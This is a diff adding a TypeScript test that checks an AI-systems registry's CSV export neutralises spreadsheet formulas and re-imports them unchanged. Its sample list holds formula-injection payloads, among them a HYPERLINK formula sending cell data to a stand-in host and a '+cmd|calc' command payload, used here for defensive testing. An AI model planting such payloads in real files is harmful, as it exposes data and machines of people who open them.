@@ -1,0 +1,80 @@
+/** CSV exports neutralise formulas (OWASP), and the neutralised file re-imports unchanged. */
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  call,
+  createApiTestContext,
+  createApiUser,
+  createOrg,
+  type ApiTestContext,
+  type ApiUser,
+} from '../harness/api.js';
+import { multipartFile } from '../harness/upload.js';
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil.test/?"&A1,"Open")',
+  '+cmd|calc',
+  '-2+3',
+  '@SUM(1)',
+  "'=already",
+];
+
+describe('CSV formula injection', () => {
+  let ctx: ApiTestContext;
+  let source: ApiUser;
+  let target: ApiUser;
+  let fromId: string;
+  let toId: string;
+  const csvOf = async (user: ApiUser, orgId: string) => {
+    const response = await call(ctx, user, {
+      method: 'GET',
+      url: `/api/v1/orgs/${orgId}/ai-systems/export?format=csv`,
+    });
+    expect(response.statusCode).toBe(200);
+    return response.body;
+  };
+
+  beforeAll(async () => {
+    ctx = await createApiTestContext();
+    const from = await createOrg(ctx, 'auditee', 'Exporter');
+    const to = await createOrg(ctx, 'auditee', 'Importer');
+    fromId = from.id;
+    toId = to.id;
+    source = await createApiUser(ctx, from, ['aims_manager']);
+    target = await createApiUser(ctx, to, ['aims_manager']);
+    for (const [index, text] of HOSTILE.entries()) {
+      await ctx.services.aiSystems.create(source.actor, from.id, {
+        name: `${text} ${index}`,
+        purpose: text,
+        lifecycleStage: 'deployment',
+        isInScope: true,
+      });
+    }
+  });
+  afterAll(async () => ctx.close());
+
+  it('writes no cell that a spreadsheet would run as a formula', async () => {
+    const rows: string[][] = parse(await csvOf(source, fromId), { bom: true });
+    const cells = rows.slice(1).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${HOSTILE[0]}`);
+  });
+
+  it('re-imports the neutralised file with every text as it was', async () => {
+    const csv = await csvOf(source, fromId);
+    const imported = await call(ctx, target, {
+      method: 'POST',
+      url: `/api/v1/orgs/${toId}/ai-systems/import`,
+      ...multipartFile('systems.csv', csv),
+    });
+    expect(imported.statusCode).toBe(201);
+    const list = await call(ctx, target, {
+      method: 'GET',
+      url: `/api/v1/orgs/${toId}/ai-systems?pageSize=50`,
+    });
+    const purposes = list
+      .json<{ items: { purpose: string }[] }>()
+      .items.map((item) => item.purpose);
+    expect(purposes.sort()).toEqual([...HOSTILE].sort());
+  });
+});
